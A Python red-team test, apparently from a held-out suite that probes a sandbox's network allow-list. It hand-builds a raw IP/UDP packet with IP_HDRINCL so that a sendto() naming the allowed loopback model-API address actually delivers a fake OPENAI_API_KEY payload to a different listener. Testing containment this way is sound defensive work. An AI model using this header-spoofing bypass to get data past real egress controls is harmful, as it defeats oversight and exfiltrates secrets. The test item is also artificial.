"""Round 7: a hand-built IPv4+UDP packet on an IPPROTO_RAW socket, sendto() naming the ALLOWED model API.

With ``IPPROTO_RAW`` (``IP_HDRINCL``) the packet's own header says where it
goes; the sockaddr only picks the route.  The syscall's destination is the
allow-listed ``127.0.0.1:API`` (the port is ignored on raw sockets), the
datagram is delivered to a new address's UDP listener.  Nothing but lo.
"""

from __future__ import annotations

import socket
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 7
EXPECT = ("L4",)


def run(args: dict[str, Any]) -> None:
    dst, dport = rt.loopback(args["dest"]["ip"]), int(args["dest"]["port"])
    known_ip, known_port = rt.loopback(args["known"]["ip"]), int(args["known"]["port"])
    payload = b"OPENAI_API_KEY=sk-h7redteam-round7-hdrincl\n" * 12
    pkt = rt.ipv4_udp(known_ip, dst, 40007, dport, payload, 0x4837)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        t = rt.now()
        n = s.sendto(pkt, (known_ip, known_port))
    rt.report(
        t,
        n == len(pkt),
        f"raw IP_HDRINCL sendto({known_ip}:{known_port}) carrying UDP to {dst}:{dport}: {n} B "
        f"({len(payload)} payload)",
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
